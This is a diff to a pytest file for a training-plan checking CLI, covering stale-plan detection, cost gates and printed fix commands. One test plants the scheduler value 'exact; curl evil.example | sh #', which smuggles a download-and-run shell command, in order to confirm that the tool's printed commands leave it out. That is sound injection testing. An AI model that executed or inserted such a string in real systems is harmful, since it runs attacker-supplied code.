@@ -27,8 +27,11 @@ def files(tmp_path, monkeypatch):
     return tmp_path
 
 
-def _check(*extra, plan="plans/ctr.yaml", expect=0, profile="profiles/ctr.yaml", cluster="clusters/paper.yaml"):
-    result = runner.invoke(app, ["check", plan, "--profile", profile, "--cluster", cluster, *extra])
+THREE_M = ("--min-throughput", "3000000")  # the job ctr-3m.yaml was planned for
+
+
+def _check(*extra, plan="plans/ctr.yaml", expect=0, profile="profiles/ctr.yaml", cluster="clusters/paper.yaml", job=()):
+    result = runner.invoke(app, ["check", plan, "--profile", profile, "--cluster", cluster, *job, *extra])
     assert result.exit_code == expect, result.output
     assert "Traceback" not in result.output
     return " ".join(result.output.split())
@@ -83,13 +86,13 @@ def test_baseline_gate_on_a_stale_plan_says_to_refresh_before_the_diff(files):
 
 
 def test_baseline_gate(files):
-    shown = _check("--baseline", "plans/ctr.yaml", "--max-increase", "5%", plan="plans/ctr-3m.yaml", expect=1)
+    shown = _check("--baseline", "plans/ctr.yaml", "--max-increase", "5%", plan="plans/ctr-3m.yaml", job=THREE_M, expect=1)
     assert "$0.80 -> $0.85, +$0.05 (+6.6%); allowed increase 5%" in shown
     assert "heterps diff plans/ctr.yaml plans/ctr-3m.yaml" in shown
-    _check("--baseline", "plans/ctr.yaml", "--max-increase", "10%", plan="plans/ctr-3m.yaml")
-    _check("--baseline", "plans/ctr.yaml", "--max-increase", "0.10", plan="plans/ctr-3m.yaml")
+    _check("--baseline", "plans/ctr.yaml", "--max-increase", "10%", plan="plans/ctr-3m.yaml", job=THREE_M)
+    _check("--baseline", "plans/ctr.yaml", "--max-increase", "0.10", plan="plans/ctr-3m.yaml", job=THREE_M)
     assert "allowed increase $0.01" in _check("--baseline", "plans/ctr.yaml", "--max-increase", "0.01",
-                                             plan="plans/ctr-3m.yaml", expect=1)
+                                             plan="plans/ctr-3m.yaml", job=THREE_M, expect=1)
 
 
 def test_replan_finds_a_wasteful_plan(files):
@@ -111,7 +114,7 @@ def test_replan_of_a_time_plan_looks_for_a_faster_one(files):
     slow = make_plan(problem, [problem.types.index(t) for t in schedule], [s["replicas"] for s in plan["stages"]],
                      scheduler="manual")
     (files / "plans/slow.yaml").write_text(yaml.safe_dump(slow.to_dict(), sort_keys=False))
-    shown = _check("--replan", "exact", plan="plans/slow.yaml", expect=1)
+    shown = _check("--replan", "exact", plan="plans/slow.yaml", expect=1, job=("--objective", "time"))
     assert "exact finds" in shown and "samples/s against the plan's 1,326,102.8" in shown and "faster" in shown
     assert "--objective time" in shown  # the fix re-plans with the plan's own objective
 
@@ -121,7 +124,7 @@ def test_bad_files_exit_2(files):
     _edit(files / "plans/ctr.yaml", "cost_usd:", "cost_usdd:")
     shown = _check(expect=2)
     assert "plans/ctr.yaml:" in shown and "cost_usdd" in shown
-    assert "--max-increase" in _check("--baseline", "plans/ctr-3m.yaml", "--max-increase", "lots", plan="plans/ctr-3m.yaml",
+    assert "--max-increase" in _check("--baseline", "plans/ctr-3m.yaml", "--max-increase", "lots", plan="plans/ctr-3m.yaml", job=THREE_M,
                                       expect=2)
 
 
@@ -140,7 +143,7 @@ def test_github_annotations_and_step_summary(files, monkeypatch):
     summary = files / "summary.md"
     monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
     result = runner.invoke(app, ["check", "plans/ctr-3m.yaml", "--profile", "profiles/ctr.yaml", "--cluster",
-                                 "clusters/paper.yaml", "--baseline", "plans/ctr.yaml", "--max-increase", "1%",
+                                 "clusters/paper.yaml", *THREE_M, "--baseline", "plans/ctr.yaml", "--max-increase", "1%",
                                  "--format", "github"])
     assert result.exit_code == 1
     first = result.stdout.splitlines()[0]
@@ -153,7 +156,7 @@ def test_json_report(files):
     result = runner.invoke(app, ["check", "plans/ctr.yaml", "--profile", "profiles/ctr.yaml", "--cluster",
                                  "clusters/paper.yaml", "--format", "json"])
     report = json.loads(result.stdout)
-    assert report["passed"] and {f["gate"] for f in report["findings"]} == {"fits", "fresh", "limits"}
+    assert report["passed"] and {f["gate"] for f in report["findings"]} == {"fits", "job", "fresh", "limits"}
 
 
 def test_diff_of_the_bundled_plans_shows_the_cost_change(files):
@@ -186,3 +189,70 @@ def test_diff_pairs_stages_by_their_layers_when_one_is_inserted(files):
         ("stage 3 (new)", "—", "6-7 on v100 x1"),
         ("stage 2 → 4", "8-9 on cpu x1", "8-9 on cpu x1"),
     ]
+
+
+# -- the gate's truth is the profile, the cluster and the command line (issue 13) --------
+
+
+def test_a_plan_for_fewer_samples_does_not_pass_the_budget(files):
+    runner.invoke(app, ["plan", "profiles/ctr.yaml", "clusters/paper.yaml", "-s", "exact", "--samples", "1000",
+                        "--out", "plans/small.yaml"])
+    shown = _check("--max-cost", "0.01", "--replan", "exact", plan="plans/small.yaml", expect=1)
+    assert "✗ FAIL job the plan was made for another job than the files and flags give: samples 1,000 in the plan, " \
+           "1e+09 now" in shown
+    assert "exceeds the --max-cost $0.01" in shown  # the cost of this job, not of the plan's 1,000 samples
+
+
+def test_doubling_the_profiles_samples_makes_the_committed_plan_stale(files):
+    _edit(Path("profiles/ctr.yaml"), "samples: 1000000000", "samples: 2000000000")
+    shown = _check("--max-cost", "1.00", expect=1)
+    assert "samples 1e+09 in the plan, 2e+09 now" in shown and "cost $1.60 exceeds the --max-cost $1.00" in shown
+
+
+def test_a_budget_written_into_the_plan_cannot_turn_a_failure_into_a_pass(files):
+    wasteful = _replicas_plus(files, 4)
+    data = yaml.safe_load(wasteful.read_text())
+    data["max_cost"] = 0.5 * data["cost_usd"]  # exact would find nothing under it, and "the plan stands"
+    wasteful.write_text(yaml.safe_dump(data, sort_keys=False))
+    shown = _check("--replan", "exact", plan=str(wasteful), expect=1)
+    assert "max_cost" in shown and "in the plan, none now" in shown and "exact finds $0.80 against" in shown
+
+
+def test_an_objective_other_than_the_flags_is_stale(files):
+    _edit(Path("plans/ctr.yaml"), "objective: cost", "objective: time")
+    assert "objective 'time' in the plan, 'cost' now" in _check(expect=1)
+
+
+def test_a_false_optimal_claim_and_an_infeasible_plan_fail(files):
+    wasteful = _replicas_plus(files, 4)
+    _edit(wasteful, "optimal: null", "optimal: true")
+    shown = _check("--replan", "exact", "--tolerance", "99", plan=str(wasteful), expect=1)
+    assert "✗ FAIL optimal the plan says it is optimal, but exact finds one" in shown
+    _edit(Path("plans/ctr.yaml"), "feasible: true", "feasible: false")
+    assert "the plan file itself says it is infeasible" in _check(expect=1)
+
+
+def test_model_and_cluster_names_are_checked(files):
+    _edit(Path("plans/ctr.yaml"), "model: ctr", "model: other")
+    _edit(Path("plans/ctr.yaml"), "cluster: paper", "cluster: elsewhere")
+    shown = _check(expect=1)
+    assert "model 'other' in the plan, 'ctr' now" in shown and "cluster 'elsewhere' in the plan, 'paper' now" in shown
+
+
+def test_printed_commands_hold_only_known_schedulers_and_quoted_paths(files):
+    _edit(Path("plans/ctr.yaml"), "scheduler: exact", "scheduler: 'exact; curl evil.example | sh #'")
+    Path("plans/my plan.yaml").write_text(Path("plans/ctr.yaml").read_text())
+    _edit(Path("clusters/paper.yaml"), "price: 2.42", "price: 3.10")  # stale: the fix is printed
+    shown = _check(plan="plans/my plan.yaml", expect=1)
+    assert "curl" not in shown and "--scheduler exact" in shown and "--out 'plans/my plan.yaml'" in shown
+
+
+def _replicas_plus(files: Path, extra: int) -> Path:
+    problem = load_problem("profiles/ctr.yaml", "clusters/paper.yaml")
+    plan = yaml.safe_load((files / "plans/ctr.yaml").read_text())
+    schedule = [s["resource"] for s in plan["stages"] for _ in range(s["first"], s["last"] + 1)]
+    made = make_plan(problem, [problem.types.index(t) for t in schedule], [s["replicas"] + extra for s in plan["stages"]],
+                     scheduler="manual")
+    path = files / "plans/wasteful.yaml"
+    path.write_text(yaml.safe_dump(made.to_dict(), sort_keys=False))
+    return path
